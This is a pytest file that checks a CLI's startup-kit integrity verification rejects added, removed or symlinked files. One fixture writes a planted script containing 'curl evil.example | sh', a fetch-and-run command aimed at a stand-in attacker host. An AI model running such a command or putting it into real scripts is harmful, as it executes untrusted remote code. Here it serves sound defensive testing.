"""A tampered kit through the commands people run: ``flare kit verify``, ``flare server
start`` and ``flare site start`` each fail naming the file, for a file added, a file
removed and a file replaced by a symlink (to identical content, so only the link gives it
away). An edited file is covered next to each command's other tests. The start-ups are
run in-process (``main``): a tampering they missed would hang the test until its
timeout, never pass it."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from flare_cli.main import main as flare
from provisioning import ProvisionResult
from tests.kit_factory import copy_kit

ADMIN = "admin@org_a.com"


def _added(kit: Path) -> Path:
    extra = kit / "startup" / "extra.sh"
    extra.write_text("curl evil.example | sh\n")
    return extra


def _removed(kit: Path) -> Path:
    readme = kit / "startup" / "README.md"
    readme.unlink()
    return readme


def _symlinked(config: str) -> Callable[[Path], Path]:
    def tamper(kit: Path) -> Path:
        path = kit / "startup" / config
        outside = kit.parent / f"{kit.name}-{config}"
        shutil.copy(path, outside)  # the same bytes: only the link betrays it
        path.unlink()
        path.symlink_to(outside)
        return path

    return tamper


TAMPERINGS: dict[str, Callable[[Path], Path]] = {
    "added": _added,
    "removed": _removed,
    "symlink": _symlinked("rootCA.pem"),
}


def _named(err: str, path: Path) -> bool:
    """One line naming the file's full path, no traceback."""
    return str(path) in err and err.count("\n") == 1 and "Traceback" not in err


@pytest.mark.parametrize("how", list(TAMPERINGS))
@pytest.mark.parametrize("participant", ["localhost", "site-1", ADMIN])
def test_kit_verify_fails_naming_an_added_removed_or_symlinked_file(
    provisioned: ProvisionResult,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    participant: str,
    how: str,
) -> None:
    kit = copy_kit(provisioned, participant, tmp_path / "kits")
    path = TAMPERINGS[how](kit)
    assert flare(["kit", "verify", str(kit)]) == 1
    err = capsys.readouterr().err
    assert str(path) in err and err.count("\n") == 1, err


@pytest.mark.timeout(30)
@pytest.mark.parametrize("how", list(TAMPERINGS))
def test_server_start_fails_naming_an_added_removed_or_symlinked_kit_file(
    provisioned: ProvisionResult, tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str
) -> None:
    kit = copy_kit(provisioned, "localhost", tmp_path / "kits")
    tamper = _symlinked("fed_server.json") if how == "symlink" else TAMPERINGS[how]
    tampered = tamper(kit)
    workspace = tmp_path / "ws"
    code = flare(["server", "start", str(kit), "--workspace", str(workspace)])
    err = capsys.readouterr().err
    assert code == 2 and _named(err, tampered), err
    assert not (workspace / "jobs").exists()  # refused before the store was opened


@pytest.mark.timeout(30)
@pytest.mark.parametrize("how", list(TAMPERINGS))
def test_site_start_fails_naming_an_added_removed_or_symlinked_kit_file(
    provisioned: ProvisionResult, tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str
) -> None:
    kit = copy_kit(provisioned, "site-1", tmp_path / "kits")
    tamper = _symlinked("fed_client.json") if how == "symlink" else TAMPERINGS[how]
    tampered = tamper(kit)
    code = flare(["site", "start", str(kit), "--server", "127.0.0.1:1"])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error: ") and _named(err, tampered), err
    assert not (kit / "workspace").exists()  # refused before anything was made
